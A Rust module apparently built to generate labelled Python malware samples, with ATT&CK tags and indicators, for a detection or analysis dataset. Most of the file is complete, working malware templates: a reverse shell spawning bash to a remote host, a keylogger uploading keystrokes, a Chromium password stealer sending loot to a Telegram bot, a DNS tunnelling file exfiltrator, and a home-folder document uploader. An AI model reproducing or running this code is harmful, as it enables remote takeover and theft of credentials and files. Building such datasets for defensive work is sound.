//! Python: attacker tooling families.

use rand::Rng;

use super::names::{self, fill, pick, R};
use super::python::doc;
use super::python_impact::{miner, ransomware};
use super::{Draft, Family};

pub(crate) const FAMILIES: &[Family] = &[
    Family {
        name: "reverse-shell",
        description: "A reverse shell that hands an interactive shell to a remote operator",
        gen: reverse_shell,
    },
    Family {
        name: "keylogger",
        description: "A keylogger that records keystrokes and ships them to an operator",
        gen: keylogger,
    },
    Family {
        name: "browser-credential-stealer",
        description: "An infostealer that decrypts passwords saved in Chromium-based browsers",
        gen: browser_stealer,
    },
    Family {
        name: "dns-exfiltration",
        description: "A data exfiltration tool that tunnels files out through DNS queries",
        gen: dns_exfil,
    },
    Family {
        name: "http-exfiltration",
        description: "A document stealer that uploads files to a remote server over HTTP",
        gen: http_exfil,
    },
    Family {
        name: "coin-miner",
        description: "A cryptocurrency miner installer that hijacks the host's CPU",
        gen: miner,
    },
    Family {
        name: "ransomware",
        description: "Ransomware that destroys backups, encrypts files and leaves a ransom note",
        gen: ransomware,
    },
];

fn reverse_shell(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let port = names::c2_port(r);
    let pty = r.random_bool(0.5);
    let mut c = fill(
        r#"import os
import socket
import subprocess
import time

HOST, PORT = "@HOST@", @PORT@


def connect():
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.connect((HOST, PORT))
    for fd in (0, 1, 2):
        os.dup2(s.fileno(), fd)
"#,
        &[("HOST", &host), ("PORT", &port.to_string())],
    );
    if pty {
        c.push_str("    import pty\n    pty.spawn(\"/bin/bash\")\n");
    } else {
        c.push_str("    subprocess.call([\"/bin/sh\", \"-i\"])\n");
    }
    c.push_str("\n\nwhile True:\n    try:\n        connect()\n    except OSError:\n        pass\n    time.sleep(30)\n");
    let shell = if pty {
        "pty.spawn(\"/bin/bash\")"
    } else {
        "subprocess.call with /bin/sh -i"
    };
    Draft {
        content: c,
        purpose: format!(
            "connects back to {host} on TCP port {port} and gives the remote side a shell"
        ),
        steps: vec![
            format!("opens a TCP socket to {host}:{port}"),
            "duplicates the socket onto file descriptors 0, 1 and 2 with os.dup2".into(),
            format!("starts an interactive shell through {shell}"),
            "retries every 30 seconds in an endless loop, swallowing connection errors".into(),
        ],
        effects: vec![format!(
            "The remote party at {host} can run arbitrary commands as the user running the script."
        )],
        behaviours: vec![
            "Creates a reverse shell (T1059.006)".into(),
            names::port_behaviour(port),
        ],
        iocs: vec![host, port.to_string(), "os.dup2".into()],
    }
}

fn keylogger(r: &mut R) -> Draft {
    let host = names::c2_domain(r);
    let mins = r.random_range(2..30);
    let logf = pick(
        r,
        &["~/.cache/.kl.log", "%APPDATA%\\syslog.dat", "/tmp/.x11-log"],
    );
    let mut c = doc(r, "input helper");
    c.push_str(&fill(
        r#"import os
import threading
import urllib.request
from pynput import keyboard

LOG = os.path.expandvars(os.path.expanduser("@LOG@"))
URL = "https://@HOST@/api/k"
buffer = []
lock = threading.Lock()


def on_press(key):
    with lock:
        try:
            buffer.append(key.char)
        except AttributeError:
            buffer.append(f"[{key.name}]")


def ship():
    with lock:
        data = "".join(buffer)
        buffer.clear()
    if data:
        with open(LOG, "a") as fh:
            fh.write(data)
        try:
            req = urllib.request.Request(URL, data=data.encode(), headers={"User-Agent": "Mozilla/5.0"})
            urllib.request.urlopen(req, timeout=10)
        except Exception:
            pass
    threading.Timer(@MINS@ * 60, ship).start()


ship()
with keyboard.Listener(on_press=on_press) as listener:
    listener.join()
"#,
        &[("LOG", logf), ("HOST", &host), ("MINS", &mins.to_string())],
    ));
    Draft {
        content: c,
        purpose: format!("records keystrokes with pynput and uploads them to {host}"),
        steps: vec![
            "registers an on_press callback on a pynput keyboard.Listener that stores characters and special key names".into(),
            format!("every {mins} minutes appends the buffer to {logf}"),
            format!("posts the same text to https://{host}/api/k with urllib.request and a browser User-Agent, ignoring errors"),
        ],
        effects: vec!["Everything the user types, including passwords, leaves the machine on a timer.".into()],
        behaviours: vec![
            "Captures keystrokes (T1056.001)".into(),
            "Exfiltrates over HTTPS (T1041)".into(),
        ],
        iocs: vec![format!("https://{host}/api/k"), "pynput".into()],
    }
}

fn browser_stealer(r: &mut R) -> Draft {
    let token = format!(
        "{}:{}",
        r.random_range(1_000_000_000u64..9_999_999_999),
        names::token(r, 35)
    );
    let chat = r.random_range(100_000_000u64..999_999_999);
    let c = fill(
        r#"import base64
import json
import os
import shutil
import sqlite3
import tempfile

import requests
import win32crypt
from Cryptodome.Cipher import AES

BOT = "@TOKEN@"
CHAT = "@CHAT@"
LOCAL = os.environ["LOCALAPPDATA"]
BROWSERS = {
    "chrome": os.path.join(LOCAL, "Google", "Chrome", "User Data"),
    "edge": os.path.join(LOCAL, "Microsoft", "Edge", "User Data"),
    "brave": os.path.join(LOCAL, "BraveSoftware", "Brave-Browser", "User Data"),
}


def master_key(root):
    with open(os.path.join(root, "Local State"), encoding="utf-8") as fh:
        enc = base64.b64decode(json.load(fh)["os_crypt"]["encrypted_key"])[5:]
    return win32crypt.CryptUnprotectData(enc, None, None, None, 0)[1]


def decrypt(blob, key):
    iv, payload = blob[3:15], blob[15:]
    return AES.new(key, AES.MODE_GCM, iv).decrypt(payload)[:-16].decode(errors="ignore")


def dump(name, root):
    key = master_key(root)
    tmp = os.path.join(tempfile.gettempdir(), name + ".db")
    shutil.copy2(os.path.join(root, "Default", "Login Data"), tmp)
    con = sqlite3.connect(tmp)
    rows = con.execute("SELECT origin_url, username_value, password_value FROM logins").fetchall()
    con.close()
    os.remove(tmp)
    return [f"{u} | {n} | {decrypt(p, key)}" for u, n, p in rows if p]


loot = []
for name, root in BROWSERS.items():
    if os.path.isdir(root):
        try:
            loot += dump(name, root)
        except Exception:
            continue

requests.post(
    f"https://api.telegram.org/bot{BOT}/sendDocument",
    data={"chat_id": CHAT, "caption": os.environ.get("COMPUTERNAME", "")},
    files={"document": ("passwords.txt", "\n".join(loot))},
    timeout=30,
)
"#,
        &[("TOKEN", &token), ("CHAT", &chat.to_string())],
    );
    Draft {
        content: c,
        purpose: "decrypts the passwords saved in Chrome, Edge and Brave and sends them to a Telegram bot".into(),
        steps: vec![
            "reads each browser's Local State file and unwraps the os_crypt encrypted_key with win32crypt.CryptUnprotectData".into(),
            "copies the Default\\Login Data SQLite database to the temp folder to avoid the browser's lock".into(),
            "selects origin_url, username_value and password_value from the logins table and decrypts each password with AES-GCM".into(),
            format!("uploads the list as passwords.txt to api.telegram.org through sendDocument for chat {chat}"),
        ],
        effects: vec!["All web credentials saved in the user's browsers are disclosed to whoever controls the bot.".into()],
        behaviours: vec![
            "Steals credentials from web browsers (T1555.003)".into(),
            "Exfiltrates to a web service (T1567)".into(),
        ],
        iocs: vec!["api.telegram.org".into(), "Login Data".into(), chat.to_string()],
    }
}

fn dns_exfil(r: &mut R) -> Draft {
    let dom = names::c2_domain(r);
    let chunk = pick(r, &[30, 40, 60]);
    let target = pick(
        r,
        &[
            "~/Documents",
            "/etc",
            "~/.ssh",
            "C:\\Users\\Public\\Documents",
        ],
    );
    let mut c = doc(r, "dns health probe");
    c.push_str(&fill(
        r#"import base64
import os
import random
import socket
import time
import zlib

DOMAIN = "@DOM@"
CHUNK = @CHUNK@
ROOT = os.path.expanduser(r"@TARGET@")


def send(label_data, seq, tag):
    name = f"{seq}.{label_data}.{tag}.{DOMAIN}"
    try:
        socket.gethostbyname(name)
    except socket.gaierror:
        pass
    time.sleep(random.uniform(0.05, 0.4))


def exfil(path):
    with open(path, "rb") as fh:
        data = zlib.compress(fh.read())
    enc = base64.b32encode(data).decode().rstrip("=").lower()
    tag = format(zlib.crc32(path.encode()), "08x")
    for i in range(0, len(enc), CHUNK):
        send(enc[i:i + CHUNK], i // CHUNK, tag)


for dirpath, _, files in os.walk(ROOT):
    for f in files:
        full = os.path.join(dirpath, f)
        if os.path.getsize(full) < 512 * 1024:
            exfil(full)
"#,
        &[
            ("DOM", &dom),
            ("CHUNK", &chunk.to_string()),
            ("TARGET", target),
        ],
    ));
    Draft {
        content: c,
        purpose: format!("smuggles files from {target} out of the network as DNS lookups under {dom}"),
        steps: vec![
            format!("walks {target} with os.walk and picks files under 512 KB"),
            "compresses each with zlib and encodes it as lowercase base32 without padding".into(),
            format!("splits the text into {chunk}-character pieces and resolves names of the form sequence.chunk.tag.{dom} with socket.gethostbyname"),
            "sleeps a random 50 to 400 milliseconds between queries".into(),
        ],
        effects: vec![format!("The authoritative name server for {dom} reassembles the files from its query log, bypassing web proxies.")],
        behaviours: vec![
            "Exfiltrates over DNS (T1048.003)".into(),
            "Uses DNS as an application layer protocol (T1071.004)".into(),
            "Collects local files (T1005)".into(),
        ],
        iocs: vec![dom, "gethostbyname".into(), "b32encode".into()],
    }
}

fn http_exfil(r: &mut R) -> Draft {
    let host = names::c2_host(r);
    let port = pick(r, &[80, 443, 8080, 8443]);
    let exts = pick(
        r,
        &[
            "('.pdf', '.docx', '.xlsx', '.kdbx')",
            "('.doc', '.xls', '.txt', '.csv', '.pst')",
            "('.pdf', '.dwg', '.pptx', '.zip')",
        ],
    );
    let c = fill(
        r#"import os
import platform
import uuid
import zipfile
from io import BytesIO

import requests

SERVER = "http://@HOST@:@PORT@/submit"
EXTS = @EXTS@
VICTIM = f"{platform.node()}-{uuid.getnode():x}"
LIMIT = 20 * 1024 * 1024


def collect(root):
    for dirpath, dirs, files in os.walk(root):
        dirs[:] = [d for d in dirs if not d.startswith(".") and d not in ("AppData", "node_modules")]
        for f in files:
            if f.lower().endswith(EXTS):
                yield os.path.join(dirpath, f)


def upload(batch, n):
    buf = BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as z:
        for p in batch:
            z.write(p, os.path.relpath(p, os.path.expanduser("~")))
    requests.post(SERVER, files={"f": (f"{VICTIM}-{n}.zip", buf.getvalue())}, data={"id": VICTIM}, timeout=60)


batch, size, n = [], 0, 0
for path in collect(os.path.expanduser("~")):
    batch.append(path)
    size += os.path.getsize(path)
    if size > LIMIT:
        upload(batch, n)
        batch, size, n = [], 0, n + 1
if batch:
    upload(batch, n)
"#,
        &[("HOST", &host), ("PORT", &port.to_string()), ("EXTS", exts)],
    );
    Draft {
        content: c,
        purpose: format!("collects documents from the user's home folder and uploads them to {host}"),
        steps: vec![
            "derives a victim id from platform.node and the MAC address from uuid.getnode".into(),
            format!("walks the home directory, skipping hidden folders, AppData and node_modules, for files ending in {exts}"),
            "packs them into in-memory zip archives of about 20 MB each with zipfile".into(),
            format!("posts each archive with requests.post to http://{host}:{port}/submit"),
        ],
        effects: vec!["Business documents and password databases are copied off the machine without any visible sign.".into()],
        behaviours: vec![
            "Collects local files (T1005)".into(),
            "Archives collected data (T1560.002)".into(),
            "Exfiltrates over HTTP (T1041)".into(),
        ],
        iocs: vec![format!("http://{host}:{port}/submit"), "zipfile".into()],
    }
}
